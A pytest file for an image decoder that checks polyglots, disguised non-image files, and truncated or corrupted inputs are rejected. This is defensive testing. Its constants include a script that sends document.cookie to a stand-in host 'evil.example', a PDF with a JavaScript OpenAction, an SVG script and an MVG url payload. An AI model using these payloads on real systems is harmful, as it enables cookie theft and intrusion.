"""Files that pretend to be something else, and opt-in formats that arrive damaged."""

import random

import pytest

from pixelgate.domain.errors import RejectedImageError, RejectReason
from pixelgate.domain.formats import DEFAULT_FORMATS, EXTRA_FORMATS
from pixelgate.imaging.decode import decode_image
from pixelgate.imaging.limits import Limits
from tests.support.formats import avif, dicom, dicom_of_jpeg, nifti, tiff, turned_heic
from tests.support.images import corners, encoded, exif
from tests.support.metadata import jpeg_with

LIMITS = Limits(formats=DEFAULT_FORMATS | EXTRA_FORMATS, max_pixels=1_000_000, max_frames=20)

SAMPLES = {
    "tiff": tiff(exif=exif(orientation=6)),
    "packed tiff": tiff(compression="tiff_lzw", pages=2),
    "jpeg in tiff": tiff(compression="jpeg"),
    "bmp": encoded(corners(), "BMP"),
    "heic": turned_heic(),
    "avif": avif(exif=exif(orientation=6)),
    "dicom": dicom(WindowCenter=100, WindowWidth=200),
    "jpeg in dicom": dicom_of_jpeg(encoded(corners(), "JPEG")),
    "nifti": nifti(),
    "packed nifti": nifti(packed=True),
}
EVERY_SAMPLE = pytest.mark.parametrize("data", SAMPLES.values(), ids=SAMPLES)

PICTURES = {name: encoded(corners(), name) for name in ("JPEG", "PNG", "GIF", "WEBP")}
SCRIPT = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
ARCHIVE = b"PK\x03\x04\x14\0\0\0\0\0" + bytes(16) + b"evil.class" + b"PK\x05\x06" + bytes(18)
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"


def outcome(data: bytes) -> RejectReason | str:
    """The format, or why it is rejected. Any other error fails the test."""
    try:
        return decode_image(data, limits=LIMITS, long_side=64).facts.format
    except RejectedImageError as error:
        return error.reason


@pytest.mark.parametrize("format_name", PICTURES)
@pytest.mark.parametrize("tail", [SCRIPT, ARCHIVE, PDF, b"MZ" + bytes(64)], ids=["html", "zip", "pdf", "exe"])
def test_a_polyglot_is_the_picture_that_it_begins_as(format_name, tail):
    assert outcome(PICTURES[format_name] + tail) == format_name


@pytest.mark.parametrize("inside", [SCRIPT, ARCHIVE, PDF], ids=["html", "zip", "pdf"])
def test_what_hides_in_a_comment_stays_out_of_facts_and_copies(inside):
    decoded = decode_image(jpeg_with(PICTURES["JPEG"], (0xFE, inside)), limits=LIMITS)

    assert inside.decode("latin-1") not in decoded.facts.model_dump_json()
    assert decoded.picture.info == {}
    assert inside not in encoded(decoded.picture, "JPEG")


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", id="svg"),
        pytest.param(b"<?xml version='1.0'?><svg/>", id="xml"),
        pytest.param(b"<!DOCTYPE html>" + SCRIPT, id="html"),
        pytest.param(b"MZ\x90\0" + bytes(4_000), id="exe"),
        pytest.param(b"\x7fELF" + bytes(4_000), id="elf"),
        pytest.param(PDF, id="pdf"),
        pytest.param(ARCHIVE, id="zip"),
        pytest.param(b"\x1f\x8b\x08\0" + bytes(4_000), id="gzip of nothing"),
        pytest.param(b"BMX" + bytes(400), id="a text that begins like a bitmap"),
        pytest.param(b"RIFF\x24\0\0\0WAVEfmt ", id="wav"),
        pytest.param(b"\0\0\0\x18ftypmp42" + bytes(400), id="mp4"),
        pytest.param(SCRIPT + PICTURES["JPEG"], id="a picture behind a page"),
        pytest.param(b"push graphic-context\nfill 'url(https://127.0.0.1/)'\n", id="mvg"),
        pytest.param(b"\0", id="one byte"),
    ],
)
def test_what_is_no_picture_is_refused_whatever_it_is_called(data):
    assert outcome(data) is RejectReason.UNSUPPORTED_FORMAT


@EVERY_SAMPLE
@pytest.mark.parametrize("share", range(5, 100, 5))
def test_a_cut_file_is_rejected_or_what_is_left_of_it_is_whole(data, share):
    cut = outcome(data[: len(data) * share // 100])

    assert cut in (
        RejectReason.TRUNCATED,
        RejectReason.UNREADABLE,
        # Cut before its signature is complete, or where the middle slice has arrived.
        RejectReason.UNSUPPORTED_FORMAT,
        "TIFF",
        "HEIF",
        "NIFTI",
    )


@EVERY_SAMPLE
def test_flipped_bits_never_raise_anything_else(data):
    chance = random.Random(20240503)
    for _ in range(60):
        damaged = bytearray(data)
        for _ in range(chance.choice((1, 1, 4, 32))):
            damaged[chance.randrange(len(damaged))] ^= 1 << chance.randrange(8)

        outcome(bytes(damaged))
